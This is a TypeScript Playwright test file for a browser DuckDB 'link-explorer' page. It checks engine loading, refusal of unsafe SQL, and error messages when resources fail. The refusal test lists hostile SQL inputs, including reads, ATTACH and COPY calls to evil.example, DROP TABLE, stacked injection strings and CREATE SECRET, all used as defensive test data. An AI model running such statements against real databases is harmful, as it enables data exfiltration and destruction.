import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { choose, type Explorer, openExplorer, textOf } from './explorer-page.ts';
import { closeBrowser, type OpenedPage, openPage } from '../site.ts';

afterAll(closeBrowser);

describe('the engine', () => {
  it('is asked for on this page, and on no other', async () => {
    const explorer = await openExplorer();
    expect(explorer.requests.filter((address) => address.endsWith('/engine/duckdb-eh.wasm.gz'))).toHaveLength(
      1,
    );
    await explorer.close();
    const other = await openPage('/indicators/', { untilSilent: true });
    expect(other.requests.filter((address) => /engine|duckdb|parquet|link-explorer/.test(address))).toEqual(
      [],
    );
    await other.close();
  });

  it.each([
    "FROM read_csv('http://evil.example/x.csv')",
    "FROM 'https://evil.example/x.parquet'",
    "SELECT * FROM read_text('https://evil.example/')",
    "FROM sniff_csv('http://evil.example/')",
    "FROM read_parquet('data/panel.parquet')",
    "FROM glob('*')",
    'SET threads = 1',
    'SET enable_external_access = true',
    'RESET ALL',
    'INSTALL httpfs',
    'LOAD icu',
    "ATTACH 'https://evil.example/x.db'",
    "COPY panel TO 'https://evil.example/x.csv'",
    "EXPORT DATABASE 'x'",
    'DROP TABLE panel',
    "INSERT INTO panel (authority) VALUES ('A000')",
    'SELECT 1; DROP TABLE panel',
    'SELECT 1) ; DROP TABLE panel; --',
    "SELECT * FROM query('DROP TABLE panel')",
    'CREATE SECRET s (TYPE s3)',
    'PRAGMA database_list',
  ])('refuses to reach out or to change anything: %s', async (sql) => {
    const { page, close } = await sharedExplorer();
    const outcome = await page.evaluate(async (statement) => {
      const explorer = document.querySelector<Explorer>('link-explorer');
      const rows = () => explorer?.query('SELECT count(*) AS n FROM panel');
      const before = await rows();
      const refused = await explorer?.query(statement).then(
        (answer) => `ran: ${JSON.stringify(answer)}`,
        (error: Error & { kind?: string }) => error.kind,
      );
      return { refused, same: JSON.stringify(before) === JSON.stringify(await rows()) };
    }, sql);
    expect(outcome).toEqual({ refused: expect.stringMatching(/^(query|refused)$/), same: true });
    await close();
  });

  it('lets a query of one’s own run from the console, with the meaning of each column beside it', async () => {
    const { page, close } = await sharedExplorer();
    const comment = await page.evaluate(() =>
      document
        .querySelector<Explorer>('link-explorer')
        ?.query("SELECT comment FROM duckdb_tables() WHERE table_name = 'panel'"),
    );
    expect(String(comment?.[0]?.['comment'])).toContain('one column for each indicator');
    await close();
  });
});

describe('the explorer when the engine cannot come', () => {
  const expected = /Failed to load resource|ERR_/;

  async function failing(before: (page: Page) => Promise<unknown>): Promise<OpenedPage> {
    const opened = await openExplorer('', { before, expected });
    expect(await opened.page.locator('link-explorer svg:visible').count()).toBe(1);
    expect(await textOf(opened.page, 'state')).toBe('The chart still shows what was drawn before.');
    return opened;
  }

  it.each([
    ['a blocked engine', '**/engine/duckdb-eh.wasm.gz', 'something blocked duckdb-eh.wasm.gz'],
    ['a blocked worker', '**/engine/worker.js.gz', 'something blocked worker.js.gz'],
    ['a blocked table', '**/data/panel.parquet', 'something blocked panel.parquet'],
  ])('says so of %s, keeps the chart, and works when tried again', async (_name, address, words) => {
    const { page, close } = await failing((each) => each.route(address, (route) => route.abort()));
    expect(await textOf(page, 'failure')).toContain(words);
    await page.unroute(address);
    await page.locator('[data-part="try-again"]').click();
    await page.waitForFunction(
      () => document.querySelector<Explorer>('link-explorer')?.dataset['state'] === 'live',
    );
    expect(await page.locator('[data-part="failure"]').isVisible()).toBe(false);
    await close();
  });

  it.each([
    ['a missing table', '**/data/panel.parquet', 404, 'not found: panel.parquet (404)'],
    [
      'a damaged table',
      '**/data/panel.parquet',
      200,
      'not the one this page was built with, so nothing is shown from it: panel.parquet',
    ],
    ['a missing engine', '**/engine/duckdb-eh.wasm.gz', 404, 'not found: duckdb-eh.wasm.gz'],
    [
      'a damaged engine',
      '**/engine/duckdb-eh.wasm.gz',
      200,
      'not the one this page was built with, so nothing is shown from it: duckdb-eh.wasm.gz',
    ],
  ])('tells %s', async (_name, address, status, words) => {
    const { page, close } = await failing((each) =>
      each.route(address, (route) => route.fulfill({ status, body: 'nothing of use' })),
    );
    expect(await textOf(page, 'failure')).toContain(words);
    await close();
  });

  it('tells that the reader is offline', async () => {
    const { page, close } = await failing((each) =>
      each.route('**/engine/worker.js.gz', (route) => route.abort()),
    );
    await page.context().setOffline(true);
    await page.locator('[data-part="try-again"]').click();
    await page.locator('[data-part="failure"]', { hasText: 'You are offline' }).waitFor();
    expect(await textOf(page, 'failure')).toContain('Connect to the internet, then press Try again.');
    await close();
  });

  it('tells that WebAssembly is off', async () => {
    const { page, close } = await failing((each) =>
      each.addInitScript(() => Reflect.deleteProperty(globalThis, 'WebAssembly')),
    );
    expect(await textOf(page, 'failure')).toContain('does not allow WebAssembly');
    await close();
  });

  it('tells that memory has run out', async () => {
    const { page, close } = await failing((each) =>
      each.addInitScript(() => {
        const { Blob: RealBlob } = globalThis;
        const full = `WebAssembly.instantiateStreaming = async (response) => {
          await (await response).body.cancel();
          throw new RangeError('WebAssembly.instantiate(): Out of memory: Cannot allocate Wasm memory for new instance');
        };`;
        globalThis.Blob = class extends RealBlob {
          constructor(parts?: BlobPart[], options?: BlobPropertyBag) {
            super(options?.type === 'text/javascript' ? [full, ...(parts ?? [])] : parts, options);
          }
        };
      }),
    );
    expect(await textOf(page, 'failure')).toContain('not enough free memory');
    await close();
  });

  it('goes on working when the connection is lost after it has come alive', async () => {
    const { page, close } = await openExplorer('', { expected });
    await page.context().setOffline(true);
    await choose(page, 'outcome', 'plan_absence');
    expect(await textOf(page, 'summary')).toContain('r = ');
    await close();
  });
});

let shared: Promise<OpenedPage> | undefined;

/** One live page for all statements; a statement that is let through spoils it for those after. */
async function sharedExplorer(): Promise<{ page: Page; close: () => Promise<void> }> {
  shared ??= openExplorer();
  const { page, faults } = await shared;
  return { page, close: async () => expect(faults).toEqual([]) };
}
